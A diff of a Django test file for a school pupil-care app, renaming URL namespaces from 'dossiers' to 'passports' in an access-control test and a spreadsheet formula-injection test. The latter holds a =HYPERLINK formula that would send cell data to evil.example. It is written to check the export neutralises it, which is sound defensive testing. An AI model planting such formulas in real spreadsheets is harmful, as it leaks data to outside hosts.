@@ -74,7 +74,7 @@ def test_families_get_404_on_staff_pages_never_an_error(world: World, persona: s
     user = getattr(world, persona)
     pupil = world.pupil if persona == "guardian_user" else world.pupil_elsewhere
     client = client_for(user)
-    for name in ["steps:pupil_steps", "dossiers:dossier", "dossiers:passport"]:
+    for name in ["steps:pupil_steps", "dossiers:dossier", "passports:passport"]:
         assert client.get(reverse(name, args=[pupil.pk])).status_code == 404, name
     # Their own pages still open.
     assert client.get(reverse("portal:child", args=[pupil.pk])).status_code == 200
@@ -120,9 +120,9 @@ def test_a_tip_that_looks_like_a_formula_is_written_as_text(world: World) -> Non
     formula = '=HYPERLINK("https://evil.example/?x="&A2,"Klik hier")'
     tips = "\n".join([formula, "+SUM(1,2)", "Geef de opdracht in korte stappen."])
     client_for(world.care_coordinator).post(
-        reverse("dossiers:passport_edit", args=[world.pupil.pk]), {"tips": tips}
+        reverse("passports:passport_edit", args=[world.pupil.pk]), {"tips": tips}
     )
-    export = reverse("dossiers:class_overview_export", args=[world.class_group.pk, "xlsx"])
+    export = reverse("passports:class_overview_export", args=[world.class_group.pk, "xlsx"])
     content = client_for(world.mentor).get(export).content
     sheet = load_workbook(io.BytesIO(content)).active
     assert sheet is not None
